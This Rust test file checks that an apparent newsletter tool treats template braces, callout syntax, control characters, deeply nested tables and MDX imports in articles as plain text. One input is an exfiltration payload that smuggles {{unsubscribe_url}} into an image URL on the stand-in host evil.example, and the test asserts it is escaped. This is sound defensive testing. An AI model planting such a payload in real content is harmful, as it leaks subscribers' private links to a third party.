//! Articles whose words look like the language of templates or of Markdown:
//! people read them as they were written, and nobody's data leaves in them.

use crate::world::World;

/// `text` with a sentence of its own in each place of `PAD`.
fn padded(text: &str) -> String {
    let mut parts = text.split("PAD");
    let first = parts.next().unwrap_or_default().to_owned();
    let sentence = |(number, part)| {
        format!(
            "Dough number {number} rests overnight in a cold place, rises slowly, \
             and has the taste of year {number} when it is baked in the morning.{part}"
        )
    };
    first + &parts.enumerate().map(sentence).collect::<String>()
}

/// Splits `text`, checks the campaign, and returns the mail of its one email.
#[track_caller]
fn mail(name: &str, text: &str) -> String {
    let world = World::founding();
    world.write(name, &padded(text));
    world.good(&["split", name, "--name", "trick", "--into", "1"]);
    world.good(&["check"]);
    let made = world.good(&["split", name, "--name", "trick", "--into", "1", "--format", "json"]);
    let made: serde_json::Value = serde_json::from_str(&made).expect("JSON");
    let id = made["emails"][0]["id"].as_str().expect("an id").to_owned();
    let part = |part| world.good(&["render", &format!("trick/{id}"), "--part", part]);
    format!("{}\n{}", part("html"), part("text"))
}

#[track_caller]
fn check(name: &str, text: &str, expected: &[&str], forbidden: &[&str]) {
    let mail = mail(name, text);
    for words in expected {
        assert!(mail.contains(words), "{name}: no {words:?} in\n{mail}");
    }
    for words in forbidden {
        assert!(!mail.contains(words), "{name}: {words:?} in\n{mail}");
    }
}

#[test]
fn braces_of_an_article_are_no_expressions() {
    let leak =
        "# T\n\nPAD\n\n![x {{email}}](http://evil.example/i.png?u={{unsubscribe_url}})\n\nPAD";
    check("leak.md", leak, &["i.png?u=%7B%7Bunsubscribe_url%7D%7D"], &["i.png?u=http"]);
    let page = "<article><h1>T {{{! a }}} t</h1><p>PAD<p>begin {{{x}}} end, {{! gone }}<p>PAD <code>in\
                {{{! code }}}</code><p><img src='https://e.example/{{email}}.png'><p>PAD</article>";
    check("braces.html", page, &["begin {{{x}}} end, {{! gone }}", "%7B%7Bemail%7D%7D.png"], &[]);
    let code = "# T\n\nPAD `{{x}}` and a\\\\\\\\{{email}}\n\n- item `{{x}}`\n\nPAD";
    check("code.md", code, &["a\\\\{{email}}"], &["\\{\\{x", "backslash"]);
}

#[test]
fn boxes_of_an_article_are_no_boxes() {
    let text =
        "# T\n\nPAD\n:::callout Injected\nboxed\n:::\n\n- a\n  :::note\n- b\n\n> :::small\n\nPAD";
    check("boxes.md", text, &["boxed", ":::small"], &["callout-box\""]);
    let page =
        "<article><h1>T</h1><p>PAD<p>Use this:<br>:::callout Title<br>text<br>:::<p>PAD</article>";
    check("boxes.html", page, &[":::callout Title"], &["callout-box\""]);
}

#[test]
fn addresses_keep_their_signs() {
    let page = "<article><h1>T</h1><p>PAD<p>See https://en.wikipedia.org/wiki/Sour_dough*a*~b \
                and foo_bar@ex.example or snake_case.<p>PAD</article>";
    let expected = [
        "href=\"https://en.wikipedia.org/wiki/Sour_dough*a*~b\"",
        "href=\"mailto:foo_bar@ex.example\"",
        "snake_case",
    ];
    check("bare.html", page, &expected, &["\\_", "%5C"]);
}

#[test]
fn nothing_is_said_twice_and_nothing_is_lost() {
    let count = |mail: &str, word: &str| mail.matches(word).count();
    let tables = "<article><h1>T</h1><p>PAD<table><tr><td><table><tr><td><p>PAD MARKONE.</table>\
                  </table><dl><dt>A<dd>x <dl><dt>B<dd>PAD MARKTWO.</dl></dl></article>";
    let mail_of_tables = mail("tables.html", tables);
    // Once in the HTML, once in the text.
    assert_eq!((count(&mail_of_tables, "MARKONE"), count(&mail_of_tables, "MARKTWO")), (2, 2));
    let text = "# T\n\nPAD\n\n- item\n  <div>INNERMARK</div>\n\n> <p>QUOTEMARK words</p>\n\n\
                ![ONEMARK](https://e.example/1.png) ![TWOMARK](https://e.example/2.png)\n\n![](https://e.example/3.png)\n\nPAD\n\n\
                | a | b |\n|---|---|\n| CELL<br>MARK | d |\n";
    check("html.md", text, &["INNERMARK", "QUOTEMARK", "1.png", "2.png", "3.png", "CELL"], &[]);
}

#[test]
fn signs_that_no_mail_may_carry_are_gone() {
    let text = "# T\u{7}itle \u{202e}of it\n\nPAD \u{1b}[31m red &#1;\n\n```\ncode \u{81}\n```\n\n![d](images/no.svg)\n\nPAD";
    check("controls.md", text, &["Title of it", "[31m red", "code"], &["\u{1b}", "no.svg"]);
}

#[test]
fn tables_that_multiply_are_refused_or_read_soon() {
    let nested = format!("{}x PAD{}", "<table><tr><td>".repeat(60), "</table>".repeat(60));
    check(
        "nested.html",
        &format!("<article><h1>T</h1><p>PAD{nested}</article>"),
        &["x Dough"],
        &[],
    );
    let jagged = format!(
        "<article><h1>T</h1><p>PAD<table><tr>{}</tr>{}</table></article>",
        "<td>c".repeat(2_000),
        "<tr><td>a<td>b</tr>".repeat(2_000)
    );
    let world = World::founding();
    world.write("jagged.html", &padded(&jagged));
    let said = world.run(&["split", "jagged.html", "--name", "trick"]);
    assert!(said.stderr.contains("more than an article"), "{}", said.stderr);
}

#[test]
fn code_that_sets_a_page_is_no_prose() {
    let text = "# T\n\nimport Tabs from '@theme/Tabs';\nimport './page.css';\n\nPAD\n\nimport duties rise from today.\n\nPAD";
    check("page.mdx", text, &["import duties rise from today."], &["@theme", "page.css"]);
}
